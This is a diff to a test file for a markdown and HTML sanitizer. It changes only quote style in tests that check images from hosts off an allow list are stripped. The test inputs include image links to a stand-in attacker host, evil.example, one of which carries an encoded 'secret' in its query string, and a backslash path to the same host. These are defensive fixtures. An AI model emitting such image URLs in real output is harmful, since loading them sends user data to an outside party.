@@ -8,7 +8,7 @@ RULES = SanitizeRules(allow_hosts=("github.com", "*.githubusercontent.com"))
 
 
 def test_inline_image_off_the_list_becomes_its_alt_text():
-    text = "Status ![chart](https://evil.example/p.png?d=c2VjcmV0 \"title\") ok"
+    text = 'Status ![chart](https://evil.example/p.png?d=c2VjcmV0 "title") ok'
     cleaned, removals = sanitize(text, RULES)
     assert cleaned == "Status chart ok"
     assert removals == [Removal("markdown-image", 1, "https://evil.example/p.png?d=c2VjcmV0")]
@@ -29,7 +29,7 @@ def test_allowed_relative_and_non_images_are_kept(text):
 
 
 def test_reference_style_image_loses_image_and_definition():
-    text = "See ![graph][g] here.\n\n[g]: https://evil.example/c?q=1 \"t\"\n"
+    text = 'See ![graph][g] here.\n\n[g]: https://evil.example/c?q=1 "t"\n'
     cleaned, removals = sanitize(text, RULES)
     assert cleaned == "See graph here.\n\n"
     assert removals == [Removal("markdown-image", 1, "https://evil.example/c?q=1")]
@@ -52,7 +52,7 @@ def test_img_with_an_off_list_srcset_candidate_goes():
 
 
 def test_data_and_backslash_urls_are_not_relative():
-    text = "![a](data:image/png;base64,AAAA) <img src=\"\\\\evil.example\\x\" alt=b>"
+    text = '![a](data:image/png;base64,AAAA) <img src="\\\\evil.example\\x" alt=b>'
     cleaned, removals = sanitize(text, RULES)
     assert cleaned == "a b"
     assert removals[0].count == 2
